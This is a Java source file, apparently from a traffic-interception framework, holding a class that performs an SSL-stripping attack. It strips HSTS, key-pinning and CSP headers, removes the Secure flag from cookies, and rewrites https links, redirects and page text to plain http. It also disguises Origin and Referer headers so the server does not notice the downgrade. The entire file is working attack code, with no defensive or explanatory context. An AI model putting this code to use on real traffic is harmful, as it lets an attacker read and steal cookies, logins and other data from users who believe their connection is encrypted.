package interlope.attack.entry;

import interlope.wire.Bytes;
import interlope.wire.Direction;
import interlope.wire.ExchangeId;
import interlope.wire.http.Header;
import interlope.wire.http.Headers;
import interlope.wire.http.HttpMessage;
import interlope.wire.http.HttpRequest;
import interlope.wire.http.HttpResponse;
import interlope.wire.http.Lens;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;

/// Takes `https` out of what a server says to a browser: of redirects, links and forms, the
/// cookies' attribute `Secure`, and the headers that would make the browser insist (RFC 6797, RFC
/// 7469).
final class WithoutHttps implements Lens {
  private static final Set<String> INSISTING =
      Set.of("strict-transport-security", "public-key-pins", "content-security-policy");

  private final String secure;
  private final String plain;

  WithoutHttps(String host) {
    secure = "https://" + host;
    plain = "http://" + host;
  }

  @Override
  public HttpMessage open(ExchangeId id, Direction to, HttpMessage message) {
    return message;
  }

  @Override
  public HttpMessage close(ExchangeId id, Direction to, HttpMessage message) {
    return switch (message) {
      case HttpResponse answer when to == Direction.TO_CLIENT -> stripped(answer);
      case HttpRequest request when to == Direction.TO_SERVER -> disguised(request);
      case HttpRequest _, HttpResponse _ -> message;
    };
  }

  private HttpResponse stripped(HttpResponse answer) {
    var headers =
        answer.headers().fields().stream()
            .filter(field -> !INSISTING.contains(field.name().toLowerCase(Locale.ROOT)))
            .map(field -> field.isNamed("Set-Cookie") ? with(field, this::withoutSecure) : field)
            .map(field -> field.isNamed("Location") ? with(field, this::plain) : field)
            .toList();
    return new HttpResponse(answer.status(), new Headers(headers), strippedBody(answer));
  }

  private Bytes strippedBody(HttpResponse answer) {
    boolean isText =
        answer
            .headers()
            .first("Content-Type")
            .orElse("")
            .toLowerCase(Locale.ROOT)
            .startsWith("text/");
    return isText ? Bytes.ofText(plain(answer.body().text())) : answer.body();
  }

  /// The server must not see that its own pages were asked from plain ones.
  private HttpRequest disguised(HttpRequest request) {
    var headers =
        request.headers().fields().stream()
            .map(field ->
                field.isNamed("Origin") || field.isNamed("Referer")
                    ? with(field, value -> value.replace(plain, secure))
                    : field)
            .toList();
    return new HttpRequest(
        request.method(), request.target(), new Headers(headers), request.body());
  }

  private String plain(String text) {
    return text.replace(secure, plain);
  }

  private String withoutSecure(String cookie) {
    List<String> attributes = Arrays.asList(cookie.split(";", -1));
    return attributes.stream()
        .filter(attribute -> !attribute.strip().equalsIgnoreCase("Secure"))
        .collect(Collectors.joining(";"));
  }

  private static Header with(Header field, UnaryOperator<String> change) {
    return new Header(field.name(), change.apply(field.value()));
  }
}
